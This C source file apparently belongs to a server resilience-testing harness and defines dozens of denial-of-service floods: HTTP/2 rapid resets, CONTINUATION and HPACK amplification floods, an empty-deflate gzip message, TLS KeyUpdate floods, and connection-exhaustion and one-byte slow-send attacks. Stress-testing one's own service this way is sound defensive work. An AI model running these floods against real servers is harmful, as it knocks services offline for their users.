/* The floods: frames of HTTP/2 that cost little to send, calls over SP, and what is below the protocol: connections,
 * TLS, pieces of one byte. */
#include <stdlib.h>

#include <nghttp2/nghttp2.h>
#include <openssl/err.h>

#include "attack.h"
#include "support/counts.h"

enum {
    OPEN_STREAMS = 250,
    ENTRIES = 2000, /* of a SETTINGS */
    CONTINUATIONS = 2000,
    ENTRY_BYTES = 4000,
    FRAME_MAX = 16384,
    EMPTY_BLOCKS = 200000,
    PARKED_AT_A_TIME = 100,
    WAIT_MS = 60000,
    FULL = 256, /* calls of an SP message */
    CALLS_AT_A_TIME = 8,
    PIECES = 4096,
    UPDATES = 500,
};

#define CANCEL "\0\0\0\10"

static const wire_call known = {.path = PATH_DECODE, .payload = "\10\1", .len = 2, .token = TARGET_ATTACKERS_TOKEN},
                       unknown = {.path = PATH_DECODE, .payload = "\10\1", .len = 2},
                       no_method = {.path = "/no.such.Service/Method", .payload = "\10\1", .len = 2},
                       item = {/* asks the store */
                               .path = PATH_GET_ITEM,
                               .payload = "\12\1g\22\1s",
                               .len = 6,
                               .token = TARGET_ATTACKERS_TOKEN};

/* ---- HTTP/2 ----------------------------------------------------------------------------- */

static uint32_t take_id(flood *f)
{
    return 2 * f->next++ + 1;
}

/* A call whose message does not come. */
static void open_call(bytes *b, flood *f)
{
    h2_put_headers(b, take_id(f), &known);
}

static void open_calls(bytes *b, flood *f)
{
    for (size_t i = 0; i < OPEN_STREAMS; i++)
        open_call(b, f);
}

static const char much_padding[256] = {(char)255};

static void open_reset_call(bytes *b, flood *f)
{
    open_call(b, f);
    h2_put_frame(b, NGHTTP2_RST_STREAM, 0, 1, CANCEL, 4);
}

static bool long_unknown_frames(bytes *b, flood *f)
{
    static const uint8_t frame[FRAME_MAX];

    for (size_t i = 0; i < 16; i++)
        h2_put_frame(b, 0xEE, 0, 1, frame, sizeof frame);
    return true;
}

/* Each frame says 2,000 times a window, and each time that of all open streams changes. */
static bool long_settings(bytes *b, flood *f)
{
    bytes entries = {0};

    for (size_t i = 0; i < ENTRIES; i++)
        bytes_put(&entries, i % 2 ? "\0\4\0\0\1\0" : "\0\4\0\0\2\0", 6);
    h2_put_frame(b, NGHTTP2_SETTINGS, 0, 0, entries.data, entries.len);
    bytes_free(&entries);
    return true;
}

static bool continuations(bytes *b, flood *f)
{
    uint32_t id = take_id(f);

    h2_put_frame(b, NGHTTP2_HEADERS, 0, id, "", 0);
    for (size_t i = 0; i < CONTINUATIONS; i++)
        h2_put_frame(b, NGHTTP2_CONTINUATION, 0, id, "", 0);
    return false;
}

/* Calls that end by the frame that follows their headers. */
static bool ended_calls(bytes *b, flood *f, uint8_t type, const char *data)
{
    for (size_t i = 0; i < 100; i++) {
        uint32_t id = take_id(f);
        h2_put_headers(b, id, &known);
        h2_put_frame(b, type, 0, id, data, 4);
    }
    return false;
}

static bool rapid_resets(bytes *b, flood *f)
{
    return ended_calls(b, f, NGHTTP2_RST_STREAM, CANCEL);
}

/* A window of 0 for each stream is an error of the stream: the server resets. */
static bool provoked_resets(bytes *b, flood *f)
{
    return ended_calls(b, f, NGHTTP2_WINDOW_UPDATE, "\0\0\0\0");
}

/* Calls that wait for a lock which another holds, and are reset once they do. */
static bool parked_resets(bytes *b, flood *f)
{
    bytes request = {0};

    for (size_t i = 0; i < PARKED_AT_A_TIME; i++) {
        uint32_t nth = f->next++;
        request.len = 0;
        pack_waiting_acquire(&request, nth, WAIT_MS, 0);
        put_call(
            b, f->wire, nth,
            &(wire_call){
                .path = PATH_ACQUIRE, .payload = request.data, .len = request.len, .token = TARGET_ATTACKERS_TOKEN});
        if (nth >= PARKED_AT_A_TIME)
            h2_put_frame(b, NGHTTP2_RST_STREAM, 0, 2 * (nth - PARKED_AT_A_TIME) + 1, CANCEL, 4);
    }
    bytes_free(&request);
    return false;
}

/* HEADERS without a message. */
static void put_block(bytes *b, flood *f, const void *block, size_t len)
{
    h2_put_frame(b, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, take_id(f), block, len);
}

/* No call at all: GET, and what HTTP forbids. */
static bool no_calls(bytes *b, flood *f)
{
    for (size_t i = 0; i < 100; i++)
        put_block(b, f, "\x82\x87", 2);
    return false;
}

/* A field of 4 kB for HPACK's table. */
static void put_entry(bytes *b)
{
    bytes_put(b, "\x40\1a\x7F\xA1\x1E", 6); /* 4,000 = 127 + 0x21 + 0x1E * 128 */
    bytes_fill(b, 'x', ENTRY_BYTES);
}

/* One byte each, for 4 kB of headers: 64 MiB a frame. */
static bool header_references(bytes *b, flood *f)
{
    bytes block = {0};
    uint32_t id = take_id(f);

    hpack_put_start(&block, PATH_DECODE);
    put_entry(&block);
    bytes_fill(&block, 0xBE, FRAME_MAX - block.len);
    h2_put_frame(b, NGHTTP2_HEADERS, NGHTTP2_FLAG_END_STREAM, id, block.data, block.len);
    block.len = 0;
    bytes_fill(&block, 0xBE, FRAME_MAX);
    h2_put_frame(b, NGHTTP2_CONTINUATION, NGHTTP2_FLAG_END_HEADERS, id, block.data, block.len);
    bytes_free(&block);
    return false;
}

static void open_entry(bytes *b, flood *f)
{
    bytes block = {0};

    hpack_put_start(&block, PATH_DECODE);
    put_entry(&block);
    put_block(b, f, block.data, block.len);
    bytes_free(&block);
}

/* As much as a call may have before its connection ends: 60 kB by 15 bytes. */
static bool few_header_references(bytes *b, flood *f)
{
    bytes block = {0};

    hpack_put_start(&block, PATH_DECODE);
    bytes_fill(&block, 0xBE, 15);
    for (size_t i = 0; i < 50; i++)
        put_block(b, f, block.data, block.len);
    bytes_free(&block);
    return false;
}

/* A message of 1 MB of empty deflate blocks, from nobody. */
static bool gzip_of_nothing(bytes *b, flood *f)
{
    static const uint8_t head[] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
    static const wire_call from_nobody = {.path = PATH_DECODE, .name = "grpc-encoding", .value = "gzip"};
    bytes message = {0};
    uint32_t id = take_id(f);

    bytes_put(&message, head, sizeof head);
    for (size_t i = 0; i < EMPTY_BLOCKS; i++)
        bytes_put(&message, "\0\0\0\xFF\xFF", 5);
    h2_put_headers(b, id, &from_nobody);
    h2_put_message(b, id, message.data, message.len, true, NGHTTP2_FLAG_END_STREAM);
    bytes_free(&message);
    return false;
}

/* ---- SP --------------------------------------------------------------------------------- */

/* No frame at all; whoever sends it is thrown out. */
static bool no_frames(bytes *b, flood *f)
{
    sp_put_length(b, f->wire, 8);
    bytes_put(b, "\x80\0\0\1\xFF\xFF\xFF\xFF", 8);
    return true;
}

static void greet(attacker *a, raw *r)
{
    bytes b = {0};

    put_beginning(&b, a->wire);
    if (!attacker_open(a, r) || !raw_send(r, b.data, b.len))
        raw_close(r);
    bytes_free(&b);
}

/* One principal on many connections, each with a few calls at a time. */
static void many_connections(attacker *a)
{
    size_t n = counts_of(50, 400);
    raw *raws = calloc(n, sizeof *raws);
    bytes b = {0};

    if (!raws)
        abort();
    for (size_t i = 0; i < n; i++)
        raws[i].fd = -1;
    for (uint32_t i = 0; i < CALLS_AT_A_TIME; i++)
        put_call(&b, a->wire, i, &item);
    for (size_t i = 0; attacker_continues(a); i = (i + 1) % n) {
        if (raws[i].fd >= 0 && raw_send(&raws[i], b.data, b.len))
            continue;
        raw_close(&raws[i]);
        greet(a, &raws[i]);
    }
    for (size_t i = 0; i < n; i++)
        raw_close(&raws[i]);
    free(raws);
    bytes_free(&b);
}

/* Calls with long answers that nobody reads. Of a few connections the oldest is closed and comes again, once the
 * newest has an answer. */
static void unread_answers(attacker *a)
{
    enum { CONNECTIONS = 10, CALLS = 100, PATIENCE_MS = 1000 };
    raw raws[CONNECTIONS];
    bytes request = {0}, b = {0};
    uint8_t first[9]; /* the greeting, and more */

    pack_uuids(&request);
    const wire_call next = {
        .path = PATH_NEXT, .payload = request.data, .len = request.len, .token = TARGET_ATTACKERS_TOKEN};
    put_beginning(&b, a->wire);
    for (uint32_t i = 0; i < CALLS; i++)
        put_call(&b, a->wire, i, &next);
    for (size_t i = 0; i < CONNECTIONS; i++)
        raws[i] = (raw){.fd = -1};
    for (size_t i = 0; attacker_continues(a); i = (i + 1) % CONNECTIONS) {
        if (raws[i].fd >= 0)
            raw_close(&raws[i]);
        if (!attacker_open(a, &raws[i]))
            continue;
        raws[i].deaf = true;
        raws[i].patience_ms = PATIENCE_MS;
        size_t n = raw_send(&raws[i], b.data, b.len) ? 0 : sizeof first;
        while (n < sizeof first && raw_receive(&raws[i], &first[n], 1, PATIENCE_MS) == 1)
            n++;
    }
    for (size_t i = 0; i < CONNECTIONS; i++)
        raw_close(&raws[i]);
    bytes_free(&request);
    bytes_free(&b);
}

/* ---- below the protocol ------------------------------------------------------------------ */

static void connects(attacker *a)
{
    while (attacker_continues(a)) {
        raw r;
        if (raw_connect(&r, a->wire, 1 + a->nth, a->stop)) {
            atomic_fetch_add(&a->connections, 1);
            raw_close(&r);
        }
    }
}

static void handshakes(attacker *a)
{
    while (attacker_continues(a)) {
        raw r;
        if (attacker_open(a, &r))
            raw_close(&r);
    }
}

/* Makes KeyUpdates ahead, so that they come as fast as the socket takes them. */
static bool make_key_updates(SSL *tls, int type, bytes *b)
{
    BIO *memory = BIO_new(BIO_s_mem()), *socket = SSL_get_wbio(tls);
    bool made = memory;
    char *data = NULL;

    BIO_up_ref(socket);
    SSL_set0_wbio(tls, memory);
    ERR_clear_error();
    for (size_t i = 0; i < UPDATES && made; i++)
        made = SSL_key_update(tls, type) == 1 && SSL_do_handshake(tls) == 1;
    long len = BIO_get_mem_data(memory, &data);
    bytes_put(b, data, len > 0 ? (size_t)len : 0);
    SSL_set0_wbio(tls, socket);
    ERR_clear_error();
    return made;
}

/* Past the TLS of `r`: the records are made. */
static bool send_records(const raw *r, const bytes *b)
{
    raw plain = {.fd = r->fd, .stop = r->stop, .deaf = true};

    return raw_send(&plain, b->data, b->len) && raw_drop(&(raw){.fd = r->fd, .tls = r->tls, .stop = r->stop});
}

static void update_keys(attacker *a, int type)
{
    bytes b = {0};

    while (attacker_continues(a)) {
        raw r;
        if (!attacker_open(a, &r))
            continue;
        b.len = 0;
        put_beginning(&b, a->wire);
        bool goes = raw_send(&r, b.data, b.len);
        while (goes && attacker_continues(a)) {
            b.len = 0;
            goes = make_key_updates(r.tls, type, &b) && send_records(&r, &b);
        }
        raw_close(&r);
    }
    bytes_free(&b);
}

static void key_updates(attacker *a)
{
    update_keys(a, SSL_KEY_UPDATE_NOT_REQUESTED);
}

static void asked_key_updates(attacker *a)
{
    update_keys(a, SSL_KEY_UPDATE_REQUESTED);
}

/* Calls of somebody known, a byte a record or a segment. */
static void single_bytes(attacker *a)
{
    bytes b = {0};

    put_beginning(&b, a->wire);
    for (uint32_t i = 0; b.len < PIECES; i++)
        put_call(&b, a->wire, i, &known);
    while (attacker_continues(a)) {
        raw r;
        if (!attacker_open(a, &r))
            continue;
        bool goes = true;
        for (size_t i = 0; i < b.len && goes; i++)
            goes = raw_send(&r, b.data + i, 1);
        raw_close(&r);
    }
    bytes_free(&b);
}

/* No attack: what it costs the others that the attackers' threads run on the same machine. */
static void computes(attacker *a)
{
    while (attacker_continues(a)) {
    }
}

const attack floods[] = {
    {.name = "window_updates", .wires = ON_H2, .frame = {NGHTTP2_WINDOW_UPDATE, 0, 0, "\0\0\0\1", 4}},
    {.name = "stream_window_updates",
     .wires = ON_H2,
     .open = open_call,
     .frame = {NGHTTP2_WINDOW_UPDATE, 0, 1, "\0\0\0\1", 4}},
    {.name = "padding", .wires = ON_H2, .open = open_call, .frame = {NGHTTP2_DATA, NGHTTP2_FLAG_PADDED, 1, "\0", 1}},
    {.name = "much_padding",
     .wires = ON_H2,
     .open = open_call,
     .frame = {NGHTTP2_DATA, NGHTTP2_FLAG_PADDED, 1, much_padding, sizeof much_padding}},
    {.name = "empty_data", .wires = ON_H2, .open = open_call, .frame = {NGHTTP2_DATA, 0, 1, "", 0}},
    {.name = "late_data", .wires = ON_H2, .open = open_reset_call, .frame = {NGHTTP2_DATA, 0, 1, "x", 1}},
    {.name = "unknown_frames", .wires = ON_H2, .frame = {0xEE, 0, 0, "", 0}},
    {.name = "long_unknown_frames", .wires = ON_H2, .fill = long_unknown_frames},
    {.name = "pings", .wires = ON_H2, .frame = {NGHTTP2_PING, 0, 0, "12345678", 8}},
    {.name = "ping_answers", .wires = ON_H2, .frame = {NGHTTP2_PING, NGHTTP2_FLAG_ACK, 0, "12345678", 8}},
    {.name = "settings", .wires = ON_H2, .frame = {NGHTTP2_SETTINGS, 0, 0, "", 0}},
    {.name = "long_settings", .wires = ON_H2, .open = open_calls, .fill = long_settings},
    {.name = "priorities", .wires = ON_H2, .frame = {NGHTTP2_PRIORITY, 0, 3, "\0\0\0\0\20", 5}},
    {.name = "goaways", .wires = ON_H2, .frame = {NGHTTP2_GOAWAY, 0, 0, "\0\0\0\0\0\0\0\0", 8}},
    {.name = "continuations", .wires = ON_H2, .fill = continuations},
    {.name = "rapid_resets", .wires = ON_H2, .fill = rapid_resets},
    {.name = "parked_resets", .wires = ON_H2, .fill = parked_resets, .prepare = hold_the_lock},
    {.name = "provoked_resets", .wires = ON_H2, .fill = provoked_resets},
    {.name = "refused_calls", .wires = ON_H2, .call = &unknown},
    {.name = "unknown_methods", .wires = ON_H2, .call = &no_method},
    {.name = "calls", .wires = ON_H2, .call = &known},
    {.name = "no_calls", .wires = ON_H2, .fill = no_calls},
    {.name = "header_references", .wires = ON_H2, .fill = header_references},
    {.name = "few_header_references", .wires = ON_H2, .open = open_entry, .fill = few_header_references},
    {.name = "gzip_of_nothing", .wires = ON_H2, .fill = gzip_of_nothing},
    {.name = "refused_frames", .wires = ON_SP, .call = &unknown, .calls_of_a_message = FULL},
    {.name = "refused_calls", .wires = ON_SP, .call = &unknown, .calls_of_a_message = 1},
    {.name = "frames", .wires = ON_SP, .call = &known, .calls_of_a_message = FULL},
    {.name = "calls", .wires = ON_SP, .call = &known, .calls_of_a_message = 1},
    {.name = "item_frames", .wires = ON_SP | ON_WS, .call = &item, .calls_of_a_message = FULL},
    {.name = "item_calls", .wires = ON_SP | ON_WS, .call = &item, .calls_of_a_message = 1},
    {.name = "many_connections", .wires = ON_SP, .run = many_connections},
    {.name = "unread_answers", .wires = ON_SP, .run = unread_answers},
    {.name = "empty_frames", .wires = ON_SP, .call = &unknown},
    {.name = "no_frames", .wires = ON_SP, .fill = no_frames},
    {.name = "computes", .wires = ON_TCP, .run = computes},
    {.name = "connects", .wires = ON_SP | ON_H2, .run = connects},
    {.name = "handshakes", .wires = ON_ANY_TLS, .run = handshakes},
    {.name = "key_updates", .wires = ON_ANY_TLS, .run = key_updates},
    {.name = "asked_key_updates", .wires = ON_ANY_TLS, .run = asked_key_updates},
    {.name = "single_bytes", .wires = ON_SP | ON_H2, .run = single_bytes},
    {.name = NULL},
};
